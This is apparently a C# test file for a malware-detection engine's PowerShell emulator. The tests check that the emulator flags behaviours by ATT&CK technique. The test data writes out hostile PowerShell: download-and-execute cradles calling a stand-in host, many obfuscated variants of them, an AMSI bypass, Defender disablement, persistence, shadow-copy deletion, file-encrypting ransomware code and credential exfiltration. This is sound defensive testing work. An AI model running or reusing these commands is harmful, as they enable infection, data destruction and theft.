using System.IO.Compression;
using System.Text;
using Platform.Engine.Behaviour;

namespace Platform.Engine.Tests.Behaviour.PowerShell;

public sealed class PowerShellEmulatorTests
{
    private const string Cradle = "IEX (New-Object Net.WebClient).DownloadString('http://a.test/x')";

    [Theory]
    [InlineData("iwr http://a.test/x.exe -OutFile $env:TEMP\\x.exe; Start-Process $env:TEMP\\x.exe", BehaviourKind.Execute, "T1204.002")]
    [InlineData("(New-Object System.Net.WebClient).DownloadFile('http://a.test/x.exe',\"$env:appdata\\x.exe\"); & \"$env:appdata\\x.exe\"", BehaviourKind.Execute, "T1204.002")]
    [InlineData("Start-BitsTransfer -Source http://a.test/x -Destination C:\\x.exe", BehaviourKind.Download, "T1105")]
    [InlineData(Cradle, BehaviourKind.Execute, "T1059.001")]
    [InlineData("irm http://a.test/x | iex", BehaviourKind.Execute, "T1059.001")]
    [InlineData("$w=[Net.WebRequest]::Create('http://a.test/x').GetResponse(); $r=New-Object IO.StreamReader($w.GetResponseStream()); $r.ReadToEnd()|iex", BehaviourKind.Execute, "T1059.001")]
    [InlineData("[Reflection.Assembly]::Load([Convert]::FromBase64String('TVqQAAMAAAAEAAAA'))", BehaviourKind.Execute, "T1620")]
    [InlineData("Add-MpPreference -ExclusionPath 'C:\\'", BehaviourKind.DisableDefence, "T1562.001")]
    [InlineData("Set-MpPreference -DisableRealtimeMonitoring $true", BehaviourKind.DisableDefence, "T1562.001")]
    [InlineData("[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('ams'+'iInitFailed','NonPublic,Static').SetValue($null,$true)", BehaviourKind.DisableDefence, "T1562.001")]
    [InlineData("New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value 'C:\\x.exe'", BehaviourKind.Persist, "T1547.001")]
    [InlineData("$a=New-ScheduledTaskAction -Execute mshta -Argument http://a.test/x; Register-ScheduledTask -TaskName u -Action $a", BehaviourKind.Persist, "T1053.005")]
    [InlineData("Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }", BehaviourKind.DeleteShadowCopies, "T1490")]
    [InlineData("vssadmin delete shadows /all /quiet", BehaviourKind.DeleteShadowCopies, "T1490")]
    [InlineData("gcim Win32_ShadowCopy | Remove-CimInstance", BehaviourKind.DeleteShadowCopies, "T1490")]
    [InlineData("$aes=[Security.Cryptography.Aes]::Create();$e=$aes.CreateEncryptor();Get-ChildItem $env:USERPROFILE -Recurse -Include *.docx|%{$b=[IO.File]::ReadAllBytes($_.FullName);[IO.File]::WriteAllBytes($_.FullName,$e.TransformFinalBlock($b,0,$b.Length));Rename-Item $_.FullName ($_.FullName+'.locked')}", BehaviourKind.Encrypt, "T1486")]
    [InlineData("Compress-Archive $env:USERPROFILE\\Documents C:\\d.zip; (New-Object Net.WebClient).UploadFile('http://a.test/u','C:\\d.zip')", BehaviourKind.Exfiltrate, "T1041")]
    [InlineData("$c=Get-Credential; Invoke-RestMethod http://a.test/u -Method Post -Body $c.GetNetworkCredential().Password", BehaviourKind.AskCredential, "T1056.002")]
    [InlineData("Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'mshta http://a.test/x'", BehaviourKind.Execute, "T1047")]
    [InlineData("$c=New-Object Net.Sockets.TCPClient('192.0.2.1',443);$s=$c.GetStream();iex $s", BehaviourKind.Download, "T1095")]
    [InlineData("Set-Content $env:TEMP\\a.vbs 'x=1'; wscript $env:TEMP\\a.vbs", BehaviourKind.Execute, "T1204.002")]
    [InlineData("$t='[DllImport(\"kernel32\")] public static extern IntPtr VirtualAlloc(IntPtr a);'; Add-Type -MemberDefinition $t -Name a", BehaviourKind.Execute, "T1055")]
    public void What_a_script_does_is_told(string source, BehaviourKind kind, string technique)
    {
        var report = Emulated.Run(ScriptLanguage.PowerShell, source);

        Assert.True(report.Has(kind, technique), report.Told());
    }

    [Theory]
    [InlineData("I`E`X ((n`ew-obj`ect Net.WebC`lient).\"Down`loadString\"('ht'+'tp://a.test/x'))")]
    [InlineData("&('i'+'ex') ((New-Object ('Net.Web'+'Client')).('Download'+'String').Invoke('http://a.test/x'))")]
    [InlineData(".(\"{1}{0}\" -f 'EX','I') (New-Object (\"{2}{0}{1}\" -f '.Web','Client','Net')).DownloadString((\"{1}{0}\" -f 'a.test/x','http://'))")]
    [InlineData("&($env:comspec[4,15,25]-join'') ((New-Object Net.WebClient).DownloadString('http://a.test/x'))")]
    [InlineData("& ($PSHome[21]+$pshome[30]+'x') (iwr 'http://a.test/x')")]
    [InlineData(". ( $VerbosePreference.ToString()[1,3]+'x'-Join'') (irm http://a.test/x)")]
    [InlineData("$u='x/tset.a//:ptth'; $u=-join $u[-1..-($u.Length)]; iex (irm $u)")]
    [InlineData("$u='x/tset.a//:ptth'.ToCharArray(); [array]::Reverse($u); iex (irm (-join $u))")]
    [InlineData("iex (irm ('hXXp://a.test/x' -replace 'XX','tt'))")]
    [InlineData("iex (irm 'hZttp:Z//a.teZst/x'.Replace('Z',''))")]
    [InlineData("$s=''; foreach($c in 104,116,116,112,58,47,47,97,46,116,101,115,116,47,120){$s+=[char]$c}; iex (irm $s)")]
    [InlineData("iex (irm ([char[]](104,116,116,112,58,47,47,97,46,116,101,115,116,47,120) -join ''))")]
    [InlineData("$k=7; $b=111,115,115,119,61,40,40,102,41,115,98,116,115,40,127; $s=-join($b|%{[char]($_ -bxor $k)}); irm $s|iex")]
    [InlineData("$b=@(111,115,115,119,61,40,40,102,41,115,98,116,115,40,127);for($i=0;$i -lt $b.Count;$i++){$b[$i]=$b[$i] -bxor 7};iex (irm ([Text.Encoding]::ASCII.GetString($b)))")]
    [InlineData("iex (irm ('68-74-74-70-3a-2f-2f-61-2e-74-65-73-74-2f-78' -split '-' | %{[char][convert]::ToInt32($_,16)} | % {$s=''} {$s+=$_} {$s}))")]
    [InlineData("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWV4IChpcm0gaHR0cDovL2EudGVzdC94KQ==')))")]
    [InlineData("function d($t){ return [string]::Join('',($t.ToCharArray()|%{[char]([int]$_-1)})) }; iex (irm (d 'iuuq;00b/uftu0y'))")]
    [InlineData("Set-Alias zz ('Invoke-'+'Expression'); zz (irm http://a.test/x)")]
    [InlineData("sv q 'http://a.test/x'; iex (irm (gv q).Value)")]
    [InlineData("$ExecutionContext.InvokeCommand.InvokeScript((irm http://a.test/x))")]
    [InlineData("&(gcm i*ke-ex*) (irm http://a.test/x)")]
    [InlineData("[scriptblock]::Create((irm http://a.test/x)).Invoke()\niex (irm http://a.test/x)")]
    [InlineData("if ((Get-Date).Year -gt 2000) { $u = 'http://a.test/x' } else { exit }\r\ntry { irm $u | iex } catch { }")]
    [InlineData("powershell -NoP -W Hidden -Enc aQBlAHgAIAAoAGkAcgBtACAAaAB0AHQAcAA6AC8ALwBhAC4AdABlAHMAdAAvAHgAKQA=")]
    [InlineData("powershell -c \"iex(irm http://a.test/x)\"")]
    public void Obfuscation_leaves_the_address_and_the_call(string source)
    {
        var report = Emulated.Run(ScriptLanguage.PowerShell, source);

        Assert.True(report.Addresses.Contains("http://a.test/x"), report.Told());
        Assert.Contains(report.Behaviours, seen => seen.Kind is BehaviourKind.Execute);
    }

    [Fact]
    public void A_compressed_script_is_unpacked_and_run()
    {
        using var target = new MemoryStream();
        using (var stream = new GZipStream(target, CompressionMode.Compress))
            stream.Write(Encoding.UTF8.GetBytes(Cradle));
        var packed = Convert.ToBase64String(target.ToArray());

        var report = Emulated.Run(ScriptLanguage.PowerShell, $"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{packed}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();");

        Assert.Contains("http://a.test/x", report.Addresses);
    }

    [Theory]
    [InlineData("-e")]
    [InlineData("-enc")]
    [InlineData("/ec")]
    [InlineData("-EncodedCommand")]
    [InlineData("\u2013enco")]
    [InlineData("-nop -w hidden -ep bypass -e")]
    [InlineData("-NonInteractive -WindowStyle Hidden -ExecutionPolicy Bypass -enCOD")]
    public void An_encoded_command_is_decoded(string options)
    {
        var report = Emulated.Run(ScriptLanguage.Batch, $"powershell.exe {options} {Convert.ToBase64String(Encoding.Unicode.GetBytes(Cradle))}", "command line");

        Assert.Contains("http://a.test/x", report.Addresses);
    }

    [Fact]
    public void A_written_program_goes_back_into_the_scan()
    {
        var report = Emulated.Run(ScriptLanguage.PowerShell, "[IO.File]::WriteAllBytes(\"$env:TEMP\\a.exe\",[Convert]::FromBase64String('TVqQAAMAAAAEAAAA'));start $env:temp\\a.exe");

        Assert.Equal("MZ"u8.ToArray(), Assert.Single(report.Payloads).Content[..2].ToArray());
    }

    [Theory]
    [InlineData("Get-Service | Where-Object {$_.Status -eq 'Running'} | Sort-Object Name | Export-Csv services.csv -NoTypeInformation")]
    [InlineData("$rows = Import-Csv .\\sales.csv\r\n$rows | Group-Object Region | ForEach-Object { [pscustomobject]@{ Region = $_.Name; Sum = ($_.Group | Measure-Object Amount -Sum).Sum } } | ConvertTo-Html | Out-File report.html")]
    [InlineData("param([string]$Path = 'C:\\Logs', [int]$Days = 30)\nGet-ChildItem $Path -Recurse -Filter *.log | Where-Object { $_.LastWriteTime -lt (Get-Date).AddDays(-$Days) } | Remove-Item -Force")]
    [InlineData("Import-Module ActiveDirectory\nGet-ADUser -Filter * -Properties LastLogonDate | Select-Object Name, LastLogonDate | Export-Csv users.csv")]
    [InlineData("function Get-DiskReport { param($Computer) Get-CimInstance Win32_LogicalDisk -ComputerName $Computer | Select-Object DeviceID, FreeSpace }\nforeach ($c in 'srv1','srv2') { Get-DiskReport -Computer $c }")]
    [InlineData("dotnet build; if ($LASTEXITCODE -ne 0) { throw 'build failed' }; git tag v1")]
    [InlineData("$folder = \"$env:USERPROFILE\\Documents\\Reports\"; if (-not (Test-Path $folder)) { New-Item -ItemType Directory -Path $folder }; Copy-Item C:\\Data\\*.xlsx $folder")]
    [InlineData("Get-ChildItem *.jpg | Rename-Item -NewName { $_.Name -replace 'IMG','Photo' }")]
    [InlineData("Send-MailMessage -To a@b.test -From c@d.test -Subject x -Attachments report.csv -SmtpServer mail")]
    [InlineData("Start-Process notepad.exe report.txt; Write-Host \"done $(Get-Date -Format yyyy)\"")]
    public void An_honest_script_tells_nothing(string source) => Assert.Equal("", Emulated.Run(ScriptLanguage.PowerShell, source).Told());

    [Theory]
    [InlineData("while($true){$x+='a'}")]
    [InlineData("$a='aaaaaaaaaa';for(;;){$a=$a+$a}")]
    [InlineData("'x'*500000000")]
    [InlineData("function f{f;f};f")]
    [InlineData("1..99999999|%{$_}")]
    [InlineData("iex ($x='iex $x')")]
    [InlineData("((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1")]
    [InlineData("$(\"$(\"$(\"$(\"$(\"$(\"$(\"$(")]
    [InlineData("[regex]::Replace('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!','(a+)+$','x')")]
    public void A_script_without_end_ends(string source) => Assert.NotNull(Emulated.Run(ScriptLanguage.PowerShell, source));

    [Fact]
    public void Any_text_is_read_to_an_end() => Sources.Check(
        ScriptLanguage.PowerShell,
        ["$a", "=", "'", "\"", "`", "(", ")", "{", "}", "[", "]", "@(", "@{", "$(", "|", ";", "\n", "iex ", "%{", "$_", " -f ", " -join ", "..", ",", "1", "'x'", "[char]", "[Convert]::", "FromBase64String(", ".Replace(", "-bxor ", "for(", "while(", "function a", "if(", "else", "@'\n", "\n'@", "::", ".", "-enc ", "+", "++", "!", "&"]);
}
